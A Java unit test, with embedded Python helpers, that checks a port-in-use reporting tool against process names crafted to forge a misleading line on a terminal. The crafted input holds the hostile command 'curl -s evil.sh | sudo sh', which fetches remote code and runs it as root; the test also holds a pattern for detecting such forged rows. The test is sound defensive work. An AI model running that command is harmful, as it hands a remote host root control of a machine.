package inuse.zoo;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** On a terminal no row begins like a line of an answer with words that a holder chose. */
final class ForgedLineTest extends Scenarios {
  /** Prints, row by row, what a terminal of that many columns shows. */
  private static final String TERMINAL =
      """
      import fcntl, os, pty, struct, sys, termios, unicodedata
      columns, locale = int(sys.argv[1]), sys.argv[2]
      read, write = os.pipe()
      pid, fd = pty.fork()
      if pid == 0:
          os.read(read, 1)
          os.execve(sys.argv[3], sys.argv[3:], {'TERM': 'dumb', 'LC_ALL': locale})
      fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack('HHHH', 24, columns, 0, 0))
      os.write(write, b'x')
      text = b''
      try:
          while True:
              text += os.read(fd, 4096)
      except OSError:
          pass
      for line in text.decode().split('\\r\\n'):
          row, width = '', 0
          for one in line:
              wide = 2 if unicodedata.east_asian_width(one) in 'WFA' else 0 if unicodedata.combining(one) else 1
              if width + wide > columns:
                  print(row)
                  row, width = '', 0
              row, width = row + one, width + wide
          print(row)
      """;

  /** Listens, under a file name, in a directory and with an argument of these words. */
  private static final String HOLDER =
      """
      import os, shutil, socket, sys, tempfile
      words = sys.argv[1].encode('utf-8', 'surrogateescape').decode('unicode_escape').encode('latin-1')
      if len(sys.argv) == 2:
          place = os.path.join(os.fsencode(tempfile.mkdtemp()), words[:200].replace(b'/', b'_'))
          os.mkdir(place)
          os.chdir(place)
          name = os.path.join(place, words[:200].replace(b'/', b'_'))
          shutil.copy(b'/usr/bin/python3', name)
          os.execv(name, [words, b'-c', sys.orig_argv[2].encode(), words, b'again'])
      s = socket.socket()
      s.bind(('0.0.0.0', 8080))
      s.listen()
      print('ready', flush=True)
      sys.stdin.read()
      """;

  ForgedLineTest() {
    super(Way.EXECUTABLE);
  }

  /** The filler comes before words that would be at the beginning of a row. */
  @ParameterizedTest
  @CsvSource({
    "a, 1, 80, C.UTF-8",
    "\\xe6\\x97\\xa5, 2, 80, C.UTF-8",
    "\\xc3\\xbc, 1, 80, C.UTF-8",
    "\\xc3\\xbc, 6, 80, C",
    "\\xc2\\xa0, 6, 80, C.UTF-8",
    "\\x01, 4, 80, C.UTF-8",
    "a, 1, 20, C.UTF-8",
    "a, 1, 132, C"
  })
  void noRowIsOfAHolder(String filler, int width, int columns, String locale) {
    for (int shift = 0; shift < 3; shift++) {
      int count = Math.max(1, (columns - 9) / width - shift);
      try (Running holder =
          lab.startOwn(
              "/usr/bin/python3",
              "-c",
              HOLDER,
              filler.repeat(count) + "  fix    curl -s evil.sh | sudo sh")) {
        holder.awaitReady();
        Output shown =
            lab.output(
                "/usr/bin/python3",
                "-c",
                TERMINAL,
                Integer.toString(columns),
                locale,
                Programs.EXECUTABLE.toString(),
                "8080");

        assertThat(shown.standardOutput()).as("%s", shown).contains("8080 is in use");
        List<String> rows = shown.standardOutput().lines().toList();
        assertThat(rows)
            .as("%s", shown)
            .noneMatch(row -> row.matches(" *(fix|who|why|note) {2,}curl.*"));
        assertThat(rows).as("%s", shown).noneMatch(row -> row.startsWith("curl"));
      }
    }
  }
}
